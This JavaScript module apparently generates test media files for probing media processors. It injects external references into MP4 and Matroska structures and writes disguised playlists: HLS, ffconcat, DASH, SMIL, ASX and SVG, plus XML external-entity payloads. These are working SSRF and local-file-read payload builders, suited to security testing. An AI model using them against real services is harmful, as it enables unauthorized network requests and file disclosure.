/** Files that point elsewhere: what containers have for it, and playlists in disguise. */

const u32 = (value) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const box = (name, ...inside) => {
  const body = Buffer.concat(inside);
  return Buffer.concat([
    u32(body.length + 8),
    Buffer.from(name, "latin1"),
    body,
  ]);
};
const element = (id, body) => {
  const size = Buffer.alloc(8);
  size.writeBigUInt64BE(BigInt(body.length) | (1n << 56n));
  return Buffer.concat([Buffer.from(id, "hex"), size, body]);
};
const zero = Buffer.from([0]);
const text = (word) => Buffer.concat([Buffer.from(word), zero]);

/** A Macintosh alias, as QuickTime writes it for a film that lies in another file. */
function alias(path) {
  const record = Buffer.alloc(150);
  record.writeUInt16BE(2, 6);
  record.write("Volume", 11, "latin1");
  record[10] = 6;
  const name = path.split("/").pop().slice(0, 62);
  record[50] = name.length;
  record.write(name, 51, "latin1");
  const named = Buffer.from(path.length % 2 ? `${path}\0` : path);
  const head = Buffer.alloc(4);
  head.writeUInt16BE(2, 0);
  head.writeUInt16BE(path.length, 2);
  return Buffer.concat([record, head, named, Buffer.from([0xff, 0xff, 0, 0])]);
}

function dref(r, target) {
  const flags = u32(r.pick([0, 0, 1]));
  const entry = r.pick([
    () => box("url ", flags, text(target)),
    () => box("urn ", flags, text("canary"), text(target)),
    () => box("alis", flags, alias(target)),
    () => box("rsrc", flags, alias(target)),
    () => box("cios", flags, text(target)),
  ])();
  return box("dref", u32(0), u32(1), entry);
}

const inFilm = [
  (r, target) =>
    box(
      "rmra",
      box(
        "rmda",
        box(
          "rdrf",
          u32(0),
          Buffer.from("url "),
          u32(target.length + 1),
          text(target),
        ),
      ),
    ),
  (r, target) =>
    box(
      "udta",
      box(
        "\xa9url",
        Buffer.from([0, target.length, 0, 0]),
        Buffer.from(target),
      ),
    ),
  (r, target) =>
    box(
      "udta",
      box(
        "meta",
        u32(0),
        box("ilst", box("covr", box("data", u32(0), u32(0), text(target)))),
      ),
    ),
  (r, target) =>
    box(
      "uuid",
      Buffer.from("be7acfcb97a942e89c71999491e3afac", "hex"),
      xmp(target),
    ),
  (r, target) => box("meta", u32(0), box("iloc", u32(0), dref(r, target))),
];
const xmp = (target) =>
  Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY c SYSTEM "${target}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&c;</x:xmpmeta>`,
  );

const inSegment = [
  (target) =>
    element(
      "1549a966",
      Buffer.concat([
        element("7384", Buffer.from(target)),
        element("3e83bb", Buffer.from(target)),
      ]),
    ),
  (target) =>
    element(
      "1941a469",
      element(
        "61a7",
        Buffer.concat([
          element("466e", Buffer.from(target)),
          element("4660", Buffer.from("application/x-truetype-font")),
          element("465c", Buffer.from(target)),
          element("46ae", Buffer.from([7])),
        ]),
      ),
    ),
  (target) =>
    element(
      "1254c367",
      element(
        "7373",
        element(
          "67c8",
          Buffer.concat([
            element("45a3", Buffer.from("URL")),
            element("4487", Buffer.from(target)),
          ]),
        ),
      ),
    ),
  (target) =>
    element(
      "1043a770",
      element("45b9", element("b6", element("6e67", Buffer.from(target)))),
    ),
];
const inTrack = [
  (target) => element("63a2", Buffer.from(`#EXTM3U\n#EXTINF:1,\n${target}\n`)),
  (target) => element("26b240", Buffer.from(target)),
  (target) => element("3b4040", Buffer.from(target)),
  () => element("86", Buffer.from("V_UNCOMPRESSED")),
  () => element("86", Buffer.from("S_TEXT/ASS")),
];

/** Where in these parts something may point elsewhere: {part, from, to, put, note}, or null. */
export function references(r, parts, targets) {
  const target = r.pick(targets);
  const drefs = parts.filter(({ name }) => name === "dref");
  if (drefs.length > 0 && r.chance(0.6)) {
    const part = r.pick(drefs);
    return {
      part,
      from: part.at,
      to: part.end,
      put: dref(r, target),
      note: `dref to “${target}”`,
    };
  }
  const film = parts.find(({ name }) => name === "moov");
  if (film) {
    const put = r.pick(inFilm)(r, target);
    const note = `${put.toString("latin1", 4, 8)} with “${target}”`;
    return { part: { up: film }, from: film.end, to: film.end, put, note };
  }
  const track = parts.find(({ name }) => name === "ae");
  if (track && r.chance(0.4)) {
    const put = r.pick(inTrack)(target);
    return {
      part: { up: track },
      from: track.end,
      to: track.end,
      put,
      note: `a track with “${target}”`,
    };
  }
  const segment = parts.find(({ name }) => name === "18538067");
  if (!segment) return null;
  const put = r.pick(inSegment)(target);
  const tables = parts.find(({ name }) => name === "1654ae6b") ?? {
    at: segment.body,
  };
  return {
    part: { up: segment },
    from: tables.at,
    to: tables.at,
    put,
    note: `a segment with “${target}”`,
  };
}

/** Playlists, descriptions of sessions, and other texts that players follow. */
export const playlists = {
  "list.m3u8": (target) =>
    `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:1\n#EXTINF:1.0,\n${target}\n#EXT-X-ENDLIST\n`,
  "keyed.m3u8": (target) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="${target}"\n#EXT-X-MAP:URI="${target}"\n#EXTINF:1.0,\n${target}\n#EXT-X-ENDLIST\n`,
  "master.m3u8": (target) =>
    `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${target}\n`,
  "list.ffconcat": (target) =>
    `ffconcat version 1.0\nfile '${target}'\nduration 1\n`,
  "clip.mpd": (target) =>
    `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY c SYSTEM "${target}">]><MPD type="static"><Period><BaseURL>${target}</BaseURL><AdaptationSet><Representation id="1" bandwidth="1"><SegmentTemplate media="${target}"/></Representation></AdaptationSet></Period>&c;</MPD>`,
  "clip.sdp": (target) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=${target}\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 47811 RTP/AVP 96\n`,
  "clip.smil": (target) =>
    `<smil><body><video src="${target}"/><textstream src="${target}"/></body></smil>`,
  "clip.asx": (target) =>
    `<asx version="3.0"><entry><ref href="${target}"/></entry></asx>`,
  "clip.svg": (target) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${target}"/></svg>`,
  "clip.imf": (target) =>
    `<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>${target}</Id></CompositionPlaylist>`,
  "clip.ffmeta": (target) => `;FFMETADATA1\ntitle=${target}\n`,
  "clip.idx": (target) =>
    `# VobSub index file, v7\nsize: 96x96\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n${target}\n`,
};

/** A playlist that begins, goes on or ends as a clip. */
export function disguises(r, bytes, targets) {
  const [name, write] = r.pick(Object.entries(playlists));
  const target = r.pick(targets);
  const list = Buffer.from(write(target));
  const [how, made] = r.pick([
    () => ["alone", list],
    () => ["before the clip", Buffer.concat([list, bytes])],
    () => ["after the clip", Buffer.concat([bytes, list])],
    () => [
      "behind its first box",
      Buffer.concat([
        box("ftyp", Buffer.from("isom\0\0\x02\0isomiso2mp41")),
        list,
      ]),
    ],
    () => [
      "as its pictures",
      Buffer.concat([
        box("ftyp", Buffer.from("isom\0\0\x02\0mp41")),
        box("mdat", list),
      ]),
    ],
    () => [
      "as an element",
      Buffer.concat([
        Buffer.from("1a45dfa3", "hex"),
        Buffer.from([0x80 | (list.length & 0x3f)]),
        list,
      ]),
    ],
    () => [
      "behind its first bytes",
      Buffer.concat([bytes.subarray(0, 12 + r.below(500)), list]),
    ],
    () => [
      "after zeros",
      Buffer.concat([Buffer.alloc(1 + r.below(4000)), list]),
    ],
  ])();
  return { bytes: made, note: `${name} for “${target}” ${how}` };
}
